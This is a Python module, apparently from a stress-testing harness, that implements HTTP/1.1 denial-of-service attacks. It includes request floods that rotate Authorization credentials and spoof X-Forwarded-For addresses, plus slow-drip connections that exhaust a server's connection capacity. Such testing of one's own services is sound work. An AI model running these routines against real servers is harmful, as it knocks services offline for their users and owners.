"""Attacks by HTTP/1.1 and below: floods of whole requests, and connections that are held."""

from __future__ import annotations

import contextlib
import re
import ssl
import time
from typing import TYPE_CHECKING

from common import credentials

if TYPE_CHECKING:
    import socket

    from common import Plan

STATUS = re.compile(rb"HTTP/1\.1 (\d{3}) ")
BATCH = 10


def head(method: str, path: str, *lines: str) -> bytes:
    return "\r\n".join([f"{method} {path} HTTP/1.1", "Host: localhost", *lines, "", ""]).encode()


def flood(plan: Plan, number: int) -> None:
    """Whole requests, ten at a time on a connection, each with the next credential."""
    options = plan.options
    values = credentials(options.get("credential"))
    connection = None
    while not plan.over():
        plan.pace.wait(BATCH)
        requests = []
        for _each in range(BATCH):
            lines = []
            if (value := next(values)) is not None:
                lines.append(f"Authorization: {value}")
            if (client := plan.client()) is not None:
                lines.append(f"X-Forwarded-For: {client}")
            requests.append(head(options.get("method", "GET"), options.get("path", "/v2/"), *lines))
        try:
            connection = connection or plan.connect(number, "http/1.1")
            connection.sendall(b"".join(requests))
            plan.count("sent", BATCH)
            plan.engaged.add(number)
            if not read_answers(plan, connection):
                connection = connection.close()
        except OSError as error:
            plan.count(type(error).__name__)
            connection = connection and connection.close()


def read_answers(plan: Plan, connection: ssl.SSLSocket) -> bool:
    """Count what a batch is answered; whether the connection can be used on."""
    said = b""
    while len(found := STATUS.findall(said)) < BATCH:
        piece = connection.recv(65536)
        if not piece:
            break
        said += piece
    for status in found:
        plan.count(status.decode())
    return len(found) == BATCH and b"Connection: close" not in said


def hold(plan: Plan, number: int) -> None:
    """Connections that say the opening, then a drip now and then, and read nothing; anew where they were closed."""
    options = plan.options
    share = max(1, options["each"])
    values = credentials(options.get("credential"))
    held: list[tuple[socket.socket, float]] = []
    while not plan.over():
        while len(held) < share and not plan.over():
            plan.pace.wait()
            try:
                held.append((open_one(plan, number, next(values)), time.monotonic()))
                plan.count("opened")
            except OSError as error:
                plan.count(type(error).__name__)
                break
        plan.engaged.add(number)
        held = [(connection, due) for connection, due in drip(plan, held) if connection]
        time.sleep(0.05)
    for connection, _due in held:
        connection.close()


def open_one(plan: Plan, number: int, credential: str | None) -> socket.socket:
    options = plan.options
    buffer = options.get("buffer")
    if options.get("tls", True):
        connection: socket.socket = plan.connect(number, "http/1.1", buffer)
    else:
        connection = plan.connect_plain(number, buffer)
    opening = options.get("opening", "")
    if credential is not None:
        opening = opening.replace("\r\n", f"\r\nAuthorization: {credential}\r\n", 1)
    if (client := plan.client()) is not None:
        opening = opening.replace("\r\n", f"\r\nX-Forwarded-For: {client}\r\n", 1)
    connection.sendall(opening.encode() + b"x" * options.get("first", 0))
    connection.setblocking(False)
    return connection


def drip(plan: Plan, held: list[tuple[socket.socket, float]]) -> list[tuple[socket.socket | None, float]]:
    """The same connections, those that were closed as None."""
    text, every = plan.options.get("drip", ""), plan.options.get("every", 1)
    kept: list[tuple[socket.socket | None, float]] = []
    for connection, due in held:
        alive, now = True, time.monotonic()
        try:
            if not plan.options.get("deaf"):
                alive = look(plan, connection)
            if alive and text and now > due + every:
                connection.send(text.encode())
                due = now  # noqa: PLW2901 (the next drip is counted from this one)
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            alive = False
        if not alive:
            plan.count("closed")
            with contextlib.suppress(OSError):
                connection.close()
        kept.append((connection if alive else None, due))
    return kept


def look(plan: Plan, connection: socket.socket) -> bool:
    """Read what is there; whether the server keeps the connection open and has not answered yet."""
    try:
        said = connection.recv(4096)
    except (BlockingIOError, ssl.SSLWantReadError):
        return True
    for status in STATUS.findall(said):
        plan.count(status.decode())
    return False
